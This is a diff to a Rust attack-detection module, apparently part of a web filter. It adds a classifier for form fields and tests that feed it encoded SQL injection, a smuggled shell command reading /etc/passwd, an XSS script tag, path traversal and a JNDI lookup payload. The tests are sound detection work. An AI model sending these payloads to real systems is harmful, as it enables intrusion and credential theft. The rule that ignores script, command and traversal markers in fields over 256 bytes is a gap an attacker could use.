@@ -109,6 +109,17 @@ pub fn of_request(target: &str) -> u8 {
     kinds
 }
 
+/// A longer value of a form is a text that somebody wrote, which may show code and commands and mean none.
+const MOST_CODE_BYTES: usize = 256;
+
+/// Kinds of attack in a field of a form as it was sent, as a set of bits.
+pub fn of_field(field: &str) -> u8 {
+    let value = decoded(field);
+    let kinds = traversal(&value, false) | other(&value);
+    let is_text = value.len() > MOST_CODE_BYTES;
+    if is_text { kinds & !(Kind::Script.bit() | Kind::Command.bit() | Kind::Traversal.bit()) } else { kinds }
+}
+
 /// Kinds of attack in a header such as the user agent.
 pub fn of_header(value: &str) -> u8 {
     let value = value.to_lowercase();
@@ -394,6 +405,24 @@ mod tests {
             assert_eq!(of_request(request), 0, "{request}");
         }
         assert_eq!(of_header("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"), 0);
+    }
+
+    #[test]
+    fn fields_of_forms_are_judged_as_queries_are_and_long_texts_are_not_code() {
+        let attacks = [
+            ("id=1%27+UNION+SELECT+user%2Cpassword+FROM+users--", Kind::Sql),
+            ("ip=127.0.0.1%3Bcat+%2Fetc%2Fpasswd&x", Kind::Command),
+            ("name=%3Cscript%3Ealert(1)%3C%2Fscript%3E", Kind::Script),
+            ("file=..%2F..%2F..%2Fetc%2Fpasswd", Kind::Traversal),
+            ("a=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D", Kind::Injection),
+        ];
+        for (field, kind) in attacks {
+            assert!(of_field(field) & kind.bit() != 0, "{field}");
+        }
+        let post = format!("text=Run+it%3A+%3B+cat+%2Ftmp%2Fa+and+%3Cscript%3E+{}", "then+read+on.+".repeat(30));
+        for field in ["mail=anna%40example.org", "q=O%27Neill+or+O%27Brien", "note=yes%2C+%28really%29%21", &post] {
+            assert_eq!(of_field(field), 0, "{field}");
+        }
     }
 
     #[test]
